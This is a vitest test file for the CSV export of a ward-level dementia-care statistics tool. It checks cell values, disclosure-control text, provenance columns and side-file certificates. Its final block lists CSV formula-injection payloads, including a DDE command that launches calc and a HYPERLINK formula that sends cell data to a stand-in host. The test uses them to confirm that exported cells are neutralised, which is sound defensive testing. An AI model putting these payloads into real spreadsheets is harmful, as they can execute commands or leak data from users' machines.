import { describe, expect, test } from 'vitest';
import { csvText } from '../../../src/lib/exports/csv-text';
import { toCsv } from '../../../src/lib/exports/csv';
import { withoutFormula } from '../../../src/lib/exports/plain-text';
import { figures, roundAsShown } from '../../../src/lib/protocol/format';
import type { SafeTable } from '../../../src/lib/protocol/safe-table';
import { parseCsv } from '../../support/parse-csv';
import { madeProjection } from '../../support/projected-tables';
import { ages, makeTable, wards } from '../../support/safe-tables';

const headings = {
	value: 'Value',
	lower: 'Lower CI 95.0 limit',
	upper: 'Upper CI 95.0 limit',
	numerator: 'Count',
	denominator: 'Denominator'
};

/** The usual table, as another policy would have released it. */
function underPolicy(policy: Partial<SafeTable['policy']>): SafeTable {
	const table = makeTable();
	const changed = { ...table.policy, ...policy };
	return { ...table, policy: changed, certificate: { ...table.certificate, policy: `${changed.id} ${changed.version}` } };
}

function recordsOf(table: SafeTable, excel = false): Record<string, string>[] {
	const [header = [], ...rows] = parseCsv(toCsv(table, { excel }).text.replace(/^\ufeff/, ''));
	return rows.map((row) => {
		expect(row).toHaveLength(header.length);
		return Object.fromEntries(header.map((name, index) => [name, row[index] ?? '']));
	});
}

describe('the file is the table shown', () => {
	test('of later years each line has its year, marked where it is projected, and the change since the first', () => {
		const table = madeProjection();
		const records = recordsOf(table);
		for (const [index, { groups, value, change }] of table.rows.entries()) {
			const record = records[index] ?? {};
			expect([record['Area Code'], record['Year code'], record['Variant of the projection']]).toEqual(
				groups.map((code) => code ?? '')
			);
			expect(record['Year']).toBe(groups[1] === '2021' ? '2021' : `${groups[1]} [f]`);
			expect(Number(record['Value'])).toBe(value.shown ? value.value : NaN);
			expect(Number(record['Change since first year (%)'])).toBe(change?.shown ? change.value : NaN);
		}
		const side = toCsv(table, { excel: false }).sideFile.text;
		for (const words of ['Not a forecast of outcomes', '[f] projected']) expect(side).toContain(words);
	});

	test.each(['proportion', 'crude-rate', 'count'] as const)('every cell of a %s comes back, numbers as numbers', (kind) => {
		const table = makeTable({ kind, dimensions: [wards, ages] });
		const records = recordsOf(table);
		expect(records).toHaveLength(table.rows.length);
		for (const [index, row] of table.rows.entries()) {
			const record = records[index] ?? {};
			expect(record['Area Code']).toBe(row.groups[0] ?? '');
			expect(record['Age code']).toBe(row.groups[1] ?? '');
			for (const figure of figures) {
				const cell = row[figure];
				const heading = headings[figure];
				const status = record[`${heading} status`];
				if (cell.shown) {
					expect(Number(record[heading])).toBe(roundAsShown(cell.value, table.measure, figure));
					expect(record[heading]).toMatch(/^-?\d+(\.\d+)?$/);
					expect(status).toBe('');
				} else {
					expect(record[heading]).toBe('');
					expect(['[c]', '[z]', '[x]']).toContain(status);
				}
			}
		}
	});

	test('a hidden row has no digit but those of its codes and labels', () => {
		const hidden = recordsOf(makeTable()).filter((record) => record['Value status'] === '[c]');
		expect(hidden).toHaveLength(2);
		for (const record of hidden) {
			const figuresAndMore = { ...record, 'Area Code': '', 'Indicator Name': '', 'Disclosure control': '' };
			expect(Object.values(figuresAndMore).join('')).not.toMatch(/\d/);
		}
	});

	test('totals have their own label and no code', () => {
		const total = recordsOf(makeTable()).at(-1);
		expect(total).toMatchObject({
			'Area Type': 'place',
			'Area Code': '',
			'Area Name': 'Southend-on-Sea',
			Value: '46',
			Count: '965'
		});
	});

	test('synthetic data say so on every line, and other data have no such column', () => {
		const table = makeTable();
		const provenance = { ...table.provenance, synthetic: false };
		for (const record of recordsOf(table)) expect(record['Data']).toBe('Synthetic');
		for (const record of recordsOf({ ...table, provenance })) expect(record).not.toHaveProperty('Data');
	});

	test('every line says for which purpose the data were opened, and the side file under which law and agreement', () => {
		const table = makeTable();
		for (const record of recordsOf(table)) expect(record['Purpose']).toBe('Plan care for older people');
		const items = parseCsv(toCsv(table, { excel: false }).sideFile.text);
		for (const line of [
			['Purpose', 'Plan care for older people'],
			['Legal basis', 'Care Act 2014'],
			['Sharing agreement', 'ISA-1']
		])
			expect(items).toContainEqual(line);
		const provenance = { ...table.provenance, purpose: null };
		for (const record of recordsOf({ ...table, provenance })) expect(record).not.toHaveProperty('Purpose');
	});

	test('every line says how it is protected, in case it is parted from the rest', () => {
		for (const record of recordsOf(makeTable()))
			expect(record['Disclosure control']).toBe(
				'nhs-england 1: 2 of 36 counts hidden. By adding and taking away within this table, no hidden count can be told more closely than 1 to 9. Counts are rounded.'
			);
		for (const record of recordsOf(underPolicy({ id: 'published', method: 'published' })))
			expect(record['Disclosure control']).toBe('published 1: as published');
	});

	test('the same table gives the same bytes', () =>
		expect(toCsv(makeTable(), { excel: true })).toEqual(toCsv(makeTable(), { excel: true })));
});

describe('the form is RFC 4180', () => {
	test('records end with CRLF, quotes are doubled, commas and line ends quoted', () => {
		expect(csvText([['a', 'b "c", d', 'e\nf', 1.5, null]])).toBe('a,"b ""c"", d","e\nf",1.5,\r\n');
	});

	test('a byte-order mark for Excel only', () => {
		expect(toCsv(makeTable(), { excel: true }).text.startsWith('\ufeffIndicator ID,')).toBe(true);
		expect(toCsv(makeTable(), { excel: false }).text.startsWith('Indicator ID,')).toBe(true);
	});
});

describe('the side file says what the figures are', () => {
	const { fileName, sideFile } = toCsv(makeTable({ notes: ['Totals may not equal the sum of their parts.'] }), { excel: false });
	const items = parseCsv(sideFile.text);

	test('question, definition, policy, source, period, extract date, caveats, shorthand', () => {
		expect(fileName).toBe('wardwise-dementia-no-care-by-ward.csv');
		expect(sideFile.fileName).toBe('wardwise-dementia-no-care-by-ward-about.csv');
		for (const item of [
			'Question',
			'Definition',
			'Disclosure control',
			'Source',
			'Period of GP register',
			'Date of extract of GP register',
			'Caveat',
			'Note',
			'Shorthand'
		]) {
			expect(items.map(([name]) => name)).toContain(item);
		}
		expect(items.find(([name]) => name === 'Shorthand')?.[1]).toBe('[c] confidential: not shown to protect people');
		expect(items.find(([name]) => name === 'Data')?.[1]).toContain('Synthetic');
	});
});

describe('the side file carries the certificate', () => {
	const linesOf = (table: SafeTable): string[][] => parseCsv(toCsv(table, { excel: false }).sideFile.text);
	const detailsOf = (table: SafeTable, item: string): (string | undefined)[] =>
		linesOf(table)
			.filter(([name]) => name === item)
			.map(([, detail]) => detail);

	test('a line for each thing that was checked', () => {
		const table = makeTable();
		const certificate = { ...table.certificate, setBeside: 3, errorBand: { mean: 2.14, largest: 11 } };
		expect(detailsOf({ ...table, certificate }, 'Certificate')).toEqual([
			'36 counts, 2 of them hidden.',
			'By adding and taking away within this table, no hidden count can be told more closely than 1 to 9.',
			'Sums over areas, ages and sexes lie 2.1 from the true ones on average, and 11 at most.',
			'3 other answers of this sitting were set beside this one and looked at together with it.'
		]);
	});

	test('published figures have none', () => {
		expect(detailsOf(underPolicy({ method: 'published' }), 'Certificate')).toEqual([]);
	});

	test.each([
		['nearest', 'Counts are rounded.'],
		['midpoint', 'Counts are rounded.'],
		['atoms', 'Counts are about right, not exact.'],
		['exact', undefined],
		['published', undefined]
	] as const)('counts by the method %s are noted as what they are', (method, note) => {
		expect(detailsOf(underPolicy({ method }), 'Note')[0]).toBe(note);
	});
});

const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const bodies = ["cmd|'/c calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"a")', '1+1'];
const payloads = starts.flatMap((start) => bodies.map((body) => start + body));
const spaced = payloads.flatMap((payload) => [` ${payload}`, `\u00a0${payload}`, `\n${payload}`]);

describe('T21: no cell of a file is a formula', () => {
	test('there are 40 payloads', () => expect(new Set(payloads).size).toBe(40));

	test.each([...payloads, ...spaced])('as a label, a title and a note %#', (payload) => {
		const table = makeTable({
			title: payload,
			notes: [payload],
			dimensions: [
				{
					...wards,
					totalLabel: payload,
					groups: wards.groups.map((group, index) => (index === 0 ? { code: payload, label: payload } : group))
				}
			]
		});
		for (const text of [toCsv(table, { excel: true }).text, toCsv(table, { excel: true }).sideFile.text]) {
			const cells = parseCsv(text.replace(/^\ufeff/, '')).flat();
			expect(cells).toContain(`'${payload}`);
			for (const cell of cells) expect(cell.trim()).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
		}
	});

	test('ordinary labels and negative numbers are left alone', () => {
		expect(withoutFormula('65-79')).toBe('65-79');
		expect(withoutFormula('St. Luke’s')).toBe('St. Luke’s');
		expect(csvText([[-1.5]])).toBe('-1.5\r\n');
	});
});
